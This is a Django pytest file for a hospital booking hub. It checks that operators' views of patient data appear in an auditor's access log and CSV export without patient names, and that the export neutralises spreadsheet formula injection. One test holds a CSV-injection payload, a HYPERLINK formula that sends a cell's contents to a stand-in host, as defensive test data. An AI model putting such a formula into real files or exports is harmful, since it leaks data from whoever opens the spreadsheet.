"""Operators' views of patients' details are in the organisation's access log beside the staff's:
an agent's look-up and list at the console, an API client's look-up and list; an auditor reads
the log and exports it as CSV, with who looked and the appointments' references, never a name."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.utils import timezone

from creneau.staff.models import PatientDataView, StaffAccess
from tests.conftest import PATIENT
from tests.operators.conftest import agent_login, api_for
from tests.operators.test_authorisation import LOOKUP, PITIE, book

pytestmark = pytest.mark.django_db


def staff_member(aphp, role: str, **scope):
    user = get_user_model().objects.create_user(f"{role}-log", f"{role}@hopital.example", "x")
    StaffAccess.objects.create(user=user, role=role, organisation=aphp, **scope)
    return user


def test_operators_views_are_in_the_access_log_the_auditor_reads_and_exports(
    client, aphp, alpha, clock
):
    api = api_for(client, alpha.api)
    booked = book(api, PITIE)
    api.get("/operator/appointments")
    api.get(f"/appointments/{booked['id']}")
    api.post("/operator/lookup", LOOKUP)
    assert agent_login(client, alpha.agent).status_code == 302
    client.get("/console/appointments/")
    client.post(
        "/console/lookup/",
        {f"caller-{k}": v for k, v in LOOKUP.items()},
        headers={"HX-Request": "true"},
    )

    views = PatientDataView.objects.filter(operator=alpha.contract.operator)
    kinds = sorted((v.kind, bool(v.api_client_id), bool(v.user_id)) for v in views)
    assert kinds == [
        ("op_list", False, True),
        ("op_list", True, False),
        ("op_lookup", False, True),
        ("op_lookup", True, False),
        ("op_read", True, False),
    ]
    assert all([a.public_id for a in v.appointments.all()] == [booked["id"]] for v in views)

    auditor = staff_member(aphp, "auditor")
    client.force_login(auditor)
    page = client.get("/staff/access-log/").content.decode()
    assert "agent-alpha (Centre d&#x27;appels Alpha)" in page and booked["id"] in page
    export = client.get("/staff/access-log/", {"format": "csv"})
    assert export["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(export.content.decode())))
    assert {row["page"] for row in rows} == {"op_list", "op_lookup", "op_read"}
    assert {row["operator"] for row in rows} == {"Centre d'appels Alpha"}
    for detail in (PATIENT["last_name"], PATIENT["first_name"], "612345678"):
        assert detail not in export.content.decode()

    # A secretary reads no access log.
    client.force_login(staff_member(aphp, "secretary", department=_department()))
    assert client.get("/staff/access-log/").status_code == 404


def _department():
    from tests.conftest import role_in

    return role_in(PITIE, "neurosurgery").department


def test_a_name_a_spreadsheet_would_run_is_written_as_text(client, aphp):
    """Issue 27, point 11: no cell of the hub's CSV starts a formula."""
    name = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    looker = get_user_model().objects.create_user(name)
    StaffAccess.objects.create(user=looker, role="org_admin", organisation=aphp)
    for kind, subject in (("lookup", "+33 6 12"), ("agenda", "@SUM(1+1)"), ("print", "-2+3")):
        PatientDataView.objects.create(
            user=looker, kind=kind, subject=subject, shown=1, at=timezone.now()
        )
    client.force_login(staff_member(aphp, "auditor"))
    export = client.get("/staff/access-log/", {"format": "csv"}).content.decode()
    rows = list(csv.DictReader(io.StringIO(export)))
    assert {row["who"] for row in rows} == {"'" + name}
    assert {row["what"] for row in rows} == {"'+33 6 12", "'@SUM(1+1)", "'-2+3"}
    cells = [cell for row in csv.reader(io.StringIO(export)) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
